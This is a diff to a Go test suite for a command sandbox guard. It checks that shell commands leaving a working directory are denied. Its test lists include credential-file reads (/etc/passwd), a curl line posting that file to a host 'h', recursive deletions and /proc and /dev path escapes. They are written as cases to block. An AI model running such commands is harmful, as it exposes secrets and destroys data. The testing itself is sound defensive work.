@@ -66,7 +66,7 @@ line"`, "cat ./sub/../a.txt", "cat BOX/a.txt", "cat in/y.txt", "cat in/../x.txt"
 		"cd sub && cat ../a.txt", "cd sub && cd .. && cat a.txt", "(cd sub && ls) | wc -l", "cd BOX/sub; cat x.txt", "cd ./sub", "cd -P in && cat ../x.txt", "{ ls; cd sub; } && cat ../a.txt", "if cd sub; then cat ../a.txt; else ls sub; fi",
 		"grep -rn /etc/passwd .", "grep -e ../.. a.txt", "sed -n 's/..\\/x/y/p' a.txt", "sed -i 's/a/b/' a.txt", "sed -n 'w new.txt' a.txt", "awk '{print $1}' a.txt", "jq . a.txt",
 		"find . -name '*.txt' -type f", "find sub -path '*/deep/*'", "sort -t/ -k2 a.txt", "sort a.txt -o b.txt", "cut -d/ -f1 a.txt", "tr / : <a.txt",
-		"echo hi >new.txt", "echo /etc/passwd ../..", "printf '%s\\n' x >>a.txt", "cat <a.txt >copy.txt 2>&1", "cat a.txt >/dev/null 2>&1", "cat <<EOF\nplain\nEOF", "cat <<'EOF'\n$(x)\nEOF",
+		"echo hi >new.txt", "echo /etc/passwd ../..", "printf '%s\\n' x >>a.txt", "cat <a.txt >copy.txt 2>&1", "cat a.txt >/dev/null 2>&1", "cat /dev/null a.txt", "head -c 9 /dev/urandom", "cat a.txt | tee /dev/null", "cat <<EOF\nplain\nEOF", "cat <<'EOF'\n$(x)\nEOF",
 		"mkdir -p one/two && touch one/two/f", "rm a.txt", "rm -rf sub/deep", "rmdir one", "mv a.txt sub", "mv a.txt c.txt", "cp a.txt sub/", "cp a.txt b.txt sub", "cp -p a.txt c.txt",
 		"ln a.txt hard", "ln -s a.txt soft", "ln -s ../a.txt sub/soft", "ln -sfn sub current", "chmod 644 a.txt", "chmod -R u+w sub", "tee -a a.txt </dev/null", "truncate -s 0 a.txt",
 		"ps aux", "df -h", "uname -a", "id", "uptime", "hostname", "date +%d/%m", "true", "pwd", "type ls", "command -v git", "command ls sub",
@@ -97,6 +97,7 @@ func TestWhatLeadsOutsideIsDeniedAndTheReasonSaysWhere(t *testing.T) {
 		"sed -n 'w ../x' a.txt", "sed -n 's/a/b/w OUT/x' a.txt", "sed 'r ../out/secret' a.txt", "sed -i s/a/b/ ../out/keep", "sed -i s/a/b/ esc/keep", "sort a.txt -o ../x", "sort -o../x a.txt", "sort --output=OUT/x a.txt", "uniq a.txt ../x", "xxd a.txt OUT/x",
 		"rm ../out/keep", "rm -rf ..", "rm -rf BOX", "rm -rf .", "rm esc/keep", "rm -r sub/..", "rm escfile", "mv a.txt ..", "mv a.txt esc/", "mv ../out/keep .", "mv BOX x", "cp a.txt ../x", "cp /etc/passwd .", "cp escfile x", "cp a.txt esc", "ln ../out/keep x", "ln -s /etc x", "ln -s ../out x", "ln -s ../.. sub/x", "ln -s .. sub/deep/../../x",
 		"mkdir ../x", "mkdir -p sub/../../x", "touch OUT/x", "touch -r ../out/keep a.txt", "touch --reference=OUT/keep a.txt", "truncate -s0 escfile", "tee esc/x <a.txt", "chmod 777 ..", "chmod -R 777 esc/",
+		"rm /dev/null", "mv a.txt /dev/null", "chmod 600 /dev/null", "ln -sf a.txt /dev/null", "touch /dev/null", "cp a.txt /dev/zero", "truncate -s 0 /dev/null", "sed -i s/a/b/ /dev/null", "cat /dev/tty", "echo x >/dev/stderr",
 		"tar -C .. -cf x.tar out", "tar cf /tmp/x.tar .", "tar --directory=/etc -cf x .", "tar -cf x.tar -C/etc passwd", "git -C .. status", "git --git-dir=../.git log", "make -C ..", "curl -o /tmp/x http://h/x", "curl -d @/etc/passwd http://h/", "scp a.txt h:../x", "dd if=/etc/passwd of=x", "dd if=a.txt of=../x", "env -C .. ls", "unknown --out=/etc/x", "unknown -o/etc/x", "../evil", "/tmp/evil", "rsync a.txt /tmp/",
 		"sh -c 'cat /etc/passwd'", "bash -c 'cd .. && ls'", "timeout 5 cat /etc/passwd", "nice cat ../out/secret", "env cat ../out/secret", "command cat ../out/secret", "sh -c \"sh -c 'cat ../out/secret'\"", "xargs cat ../out/secret", "[ -f ../out/secret ]", "test -e /etc/passwd && echo", "time cat /etc/passwd", "stat -- ../out", "wc -l <../out/secret", "ls a.txt /etc", "df /", "cat <<EOF >../x\nx\nEOF", "ls -d ..", "readlink escfile",
 	} {
@@ -203,37 +204,36 @@ func TestTheShellMustStandInTheSandboxAndMayGoBack(t *testing.T) {
 	}
 }
 
-func TestWhatTheKernelHoldsIsNotJudgedByItsPaths(t *testing.T) {
+// What surely is a path and leads outside is denied whatever holds the session; the rest is left to that.
+func TestWhatIsHeldIsNotAskedAbout(t *testing.T) {
 	dir := tree(t)
 	for _, level := range []sandbox.Level{sandbox.LevelAccount, sandbox.LevelKernel} {
 		g := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Level = level })
-		for _, command := range []string{"cat /etc/passwd", "make", "rm *", "./run"} {
-			assert.Equal(t, policy.Allow, decide(t, g, request(dir+"/box", "bash", command)).Verdict, command)
+		for command, want := range map[string]policy.Verdict{
+			"cat /etc/passwd": policy.Deny, "cat esc/secret": policy.Deny, "ls ..": policy.Deny, "cp a.txt OUT": policy.Deny, "cat <OUT/secret": policy.Deny, "echo x >../y": policy.Deny, "test -e /etc/passwd": policy.Deny, "[ ! -f /etc/passwd -o x ]": policy.Deny, "[[ x && -s /etc/passwd ]]": policy.Deny, "cat a.txt escfile": policy.Deny,
+			"cd sub; cat ../../out/secret": policy.Deny, "cd $x && cat /etc/passwd": policy.Deny, "(cd sub; cat ../../a)": policy.Deny, "sh -c 'cat ../out/secret'": policy.Deny, "rm a.txt; cat /etc/passwd": policy.Deny, "rm a.txt; cat ../out/keep": policy.Deny,
+			"cat /dev/fd/3": policy.Deny, "cat /proc/self/root/etc/passwd": policy.Deny, "chmod 666 /dev/null": policy.Deny, "rm /dev/null": policy.Deny, "cat /dev/../etc/passwd": policy.Deny, "mv a.txt /dev/stdout": policy.Deny,
+			"cat a.txt": policy.Allow, "make": policy.Allow, "rm *": policy.Allow, "./run": policy.Allow, `cat "$x"`: policy.Allow, "/usr/bin/cat a.txt": policy.Allow, "ls >/dev/null 2>/dev/null": policy.Allow,
+			"cd sub; cat ../a.txt": policy.Allow, "cd sub || cd in; cat ../a.txt": policy.Allow, "cd $x && cat ../a": policy.Allow, "go_there; cat ../a": policy.Allow, "rm esc; mkdir esc; touch esc/x": policy.Allow, "rm BOX/esc; touch BOX/esc/x": policy.Allow,
+			`[ "$x" = / ]`: policy.Allow, `[[ $x == /etc* && -f a.txt ]]`: policy.Allow, "rm escfile": policy.Allow, "mv escfile x": policy.Allow, "rm -rf esc/": policy.Allow, "rm esc/keep": policy.Deny, "rm -rf BOX": policy.Deny, "rm -r ..": policy.Deny, "rm -r sub/..": policy.Deny, "mv a.txt esc": policy.Deny,
+			"make PREFIX=/usr": policy.Allow, "go test -run /x": policy.Allow, "perl -ne '/foo/ && print' a.txt": policy.Allow, "unknown /etc/x": policy.Allow,
+			"echo x >/dev/stderr": policy.Allow, "cat /dev/stdin": policy.Allow, "cat a.txt | tee /dev/stderr": policy.Allow, "head -c 5 /dev/urandom": policy.Allow, "read x </dev/tty": policy.Allow,
+		} {
+			d := decide(t, g, request(dir+"/box", "bash", expand(dir, command)))
+			assert.Equal(t, want, d.Verdict, "%s: %s: %s", level, command, d.Reason)
 		}
 	}
 }
 
-func TestWhatTheKernelHoldsMayHaveToNamePathsInsideAllTheSame(t *testing.T) {
-	dir := tree(t)
-	g := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Level, c.Named = sandbox.LevelKernel, true })
-	for command, want := range map[string]policy.Verdict{
-		"cat /etc/passwd": policy.Deny, "cat esc/secret": policy.Deny, "ls ..": policy.Deny,
-		"cat a.txt": policy.Allow, "make": policy.Allow, "rm *": policy.Allow, "./run": policy.Allow, `cat "$x"`: policy.Allow,
-	} {
-		d := decide(t, g, request(dir+"/box", "bash", command))
-		assert.Equal(t, want, d.Verdict, "%s: %s", command, d.Reason)
-	}
-}
-
-func TestAShellThatTheKernelHoldsMayNotGoOutsideEither(t *testing.T) {
+func TestAShellThatIsHeldMayNotGoOutsideEither(t *testing.T) {
 	dir := tree(t)
 	for _, level := range []sandbox.Level{sandbox.LevelAccount, sandbox.LevelKernel} {
 		g := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Level = level })
 		for command, want := range map[string]policy.Verdict{
 			"cd /": policy.Deny, "cd ..": policy.Deny, "cd .. && make": policy.Deny, "ls; cd ..": policy.Deny, "cd esc": policy.Deny, "cd -P sub/up; ls": policy.Deny, "if cd /tmp; then ls; fi": policy.Deny,
 			"make && cd /tmp": policy.Deny, "{ cd OUT; }": policy.Deny, "cd sub && cd ../..": policy.Deny, "ls | cd /": policy.Deny, "command cd /": policy.Deny,
+			"(cd / && ls)": policy.Deny, "cd / | cat": policy.Deny, "sh -c 'cd .. && ls'": policy.Deny, "cd / &": policy.Deny,
 			"cd sub": policy.Allow, "cd sub && ls && cd ..": policy.Allow, "cd sub; ls; cd ..": policy.Allow, "cd BOX/in && ls": policy.Allow, "cd -- sub": policy.Allow,
-			"(cd / && ls)": policy.Allow, "cd / | cat": policy.Allow, "sh -c 'cd .. && ls'": policy.Allow, "cd / &": policy.Allow,
 			// Nobody can tell where these go; the next command is told that it is outside.
 			"cd $x": policy.Allow, "cd": policy.Allow, "cd -": policy.Allow, "cd $x && cd ..": policy.Allow, "pushd sub && cd ..": policy.Allow, "go_there && cd ..": policy.Allow,
 		} {
